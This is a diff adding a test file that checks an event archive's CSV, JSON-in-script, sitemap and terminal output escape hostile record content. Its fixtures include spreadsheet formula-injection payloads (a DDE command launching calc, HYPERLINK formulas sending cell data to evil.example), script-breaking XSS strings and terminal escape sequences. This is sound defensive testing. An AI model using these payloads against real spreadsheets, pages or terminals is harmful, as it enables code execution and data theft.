@@ -1,0 +1,109 @@
+/** Data that leaves the archive: what a record holds stays text in spreadsheets, scripts, XML and terminals. */
+import { runInNewContext } from 'node:vm'
+import { expect, test } from 'vitest'
+import { buildArchive } from '../../src/archive/archive.ts'
+import { csvCell, eventsCsv } from '../../src/formats/csv.ts'
+import { eventsJson } from '../../src/formats/json.ts'
+import { scriptJson } from '../../src/formats/script.ts'
+import { sitemapFile } from '../../src/output/sitemap.ts'
+import { sha256 } from '../../src/records/hash.ts'
+import { formatProblems } from '../../src/records/problem.ts'
+import { readContent } from '../../src/records/read.ts'
+import { replacing, withSmallArchive } from './small-archive.ts'
+import type { Edit } from './small-archive.ts'
+
+const archiveOf = (...edits: Edit[]) =>
+  withSmallArchive(edits, (content) => buildArchive(readContent(content).records, { hash: sha256 }))
+
+test.each([
+  ['Anna Berg opens the harbour', 'Anna Berg opens the harbour'],
+  ['=1+1', "'=1+1"],
+  ['=HYPERLINK("https://evil.example","a")', `"'=HYPERLINK(""https://evil.example"",""a"")"`],
+  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+  ['+1', "'+1"],
+  ['-2+3', "'-2+3"],
+  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+  ['＝1+1', "'＝1+1"],
+  ['  =1+1', "'  =1+1"],
+  ['\t=1+1', "'\t=1+1"],
+  ['\ra', `"'\ra"`],
+  ['\na', `"'\na"`],
+  ['a=b', 'a=b'],
+  ['[..2016]', '[..2016]'],
+  ['2021-07-12', '2021-07-12'],
+  ['a, b', '"a, b"'],
+  ['a "b" c', '"a ""b"" c"'],
+  ['a\r\nb', '"a\r\nb"'],
+  ['', ''],
+])('the cell %j is written %j', (text, cell) => {
+  expect(csvCell([text])).toBe(cell)
+})
+
+test('the table has a header, a row for each event, and the same columns in each', () => {
+  const rows = eventsCsv(archiveOf()).split('\r\n')
+  expect(rows.length).toBe(7)
+  expect(rows[0]).toBe(
+    'id,url,title,date,earliest,latest,type,agreement,places,people,organizations,topics,sources,summary',
+  )
+  expect(rows.at(-2)).toBe(
+    'harbour-opening,../events/harbour-opening/,Anna Berg opens the harbour of Haven,1998-05-04,1998-05-04,1998-05-04,other,corroborated,haven,anna-berg,harbour-office,harbours,harbour-gazette-opening; radio-north-opening,"The new harbour was opened by the Mayor of Haven. The two reports give different numbers of people who had come to see it, and both are kept."',
+  )
+  expect(rows.at(-1)).toBe('')
+})
+
+test('a title that is a formula is text in the table, and itself in JSON', () => {
+  const title = '=HYPERLINK("https://evil.example?" & A1, "</script><!--")'
+  const archive = archiveOf([
+    'events/harbour-opening.md',
+    replacing('title: Anna Berg opens the harbour of Haven', `title: '${title}'`),
+  ])
+  expect(eventsCsv(archive)).toContain(
+    `,"'=HYPERLINK(""https://evil.example?"" & A1, ""</script><!--"")",`,
+  )
+  const { events } = JSON.parse(eventsJson(archive)) as { events: { title: string }[] }
+  expect(events.at(-1)!.title).toBe(title)
+})
+
+test.each([
+  '</script><script>alert(1)</script>',
+  '<!-- <script>',
+  ']]>',
+  'a\u2028b\u2029c',
+  '`${alert(1)}` "\'\\',
+  '\ud800',
+])('%j stays text in a script', (text) => {
+  const script = scriptJson({ text, [text]: [text] })
+  expect(script).not.toMatch(/<|\u2028|\u2029/)
+  expect(JSON.parse(script)).toEqual({ text, [text]: [text] })
+  expect(runInNewContext(`JSON.stringify(${script})`)).toBe(
+    JSON.stringify({ text, [text]: [text] }),
+  )
+})
+
+test('a sitemap is XML whatever the pages are called', () => {
+  const pages = [
+    'index.html',
+    'events/a&b/index.html',
+    `events/<x>"'/index.html`,
+    'events/ü/index.html',
+  ]
+  const locations = sitemapFile('https://example.org/a&b/', pages).match(/<loc>.*<\/loc>/g)
+  expect(locations).toEqual([
+    '<loc>https://example.org/a&amp;b/</loc>',
+    '<loc>https://example.org/a&amp;b/events/a&amp;b/</loc>',
+    `<loc>https://example.org/a&amp;b/events/%3Cx%3E%22'/</loc>`,
+    '<loc>https://example.org/a&amp;b/events/%C3%BC/</loc>',
+  ])
+})
+
+test('what a record holds does not steer the terminal that shows its faults', () => {
+  const message = '`\u001b[2J\u001b]0;owned\u0007` \u202e\u009b31m\nnext line'
+  const shown = formatProblems([
+    { file: 'content/events/\u001b[A.md', line: 1, code: 'x', severity: 'error', message },
+  ])
+  expect(shown).toBe(
+    'content/events/‹U+001B›[A.md:1  x\n' +
+      '  `‹U+001B›[2J‹U+001B›]0;owned‹U+0007›` ‹U+202E›‹U+009B›31m\n' +
+      '  next line',
+  )
+})
